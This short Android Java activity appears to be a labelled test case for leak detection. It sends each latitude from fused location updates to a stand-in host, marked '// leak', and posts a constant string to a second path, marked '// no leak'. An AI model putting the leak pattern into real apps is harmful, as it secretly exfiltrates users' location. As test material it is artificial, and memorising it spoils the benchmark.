package habits;

import android.app.Activity;
import android.location.Location;
import android.os.Bundle;
import android.os.Looper;
import com.google.android.gms.location.FusedLocationProviderClient;
import com.google.android.gms.location.LocationCallback;
import com.google.android.gms.location.LocationRequest;
import com.google.android.gms.location.LocationResult;
import com.google.android.gms.location.LocationServices;
import com.google.android.gms.tasks.OnSuccessListener;
import okhttp3.FormBody;
import okhttp3.OkHttpClient;
import okhttp3.Request;

/** Play services' way to a place: a callback and a task. */
public class FusedLocation extends Activity {
    private final OkHttpClient http = new OkHttpClient();

    private void send(String key, String value) {
        FormBody body = new FormBody.Builder().add(key, value).build();
        http.newCall(new Request.Builder().url("https://f.example.org/f").post(body).build()).enqueue(null); // leak
    }

    private void hello(String value) {
        FormBody body = new FormBody.Builder().add("hello", value).build();
        http.newCall(new Request.Builder().url("https://f.example.org/h").post(body).build()).enqueue(null); // no leak
    }

    @Override
    protected void onCreate(Bundle state) {
        FusedLocationProviderClient client = LocationServices.getFusedLocationProviderClient(this);
        client.requestLocationUpdates(LocationRequest.create(), new LocationCallback() {
            @Override
            public void onLocationResult(LocationResult result) {
                for (Location one : result.getLocations()) send("lat", Double.toString(one.getLatitude()));
            }
        }, Looper.getMainLooper());
        client.getLastLocation().addOnSuccessListener(new OnSuccessListener<Location>() {
            @Override
            public void onSuccess(Location last) {
                if (last != null) hello("there");
            }
        });
    }
}
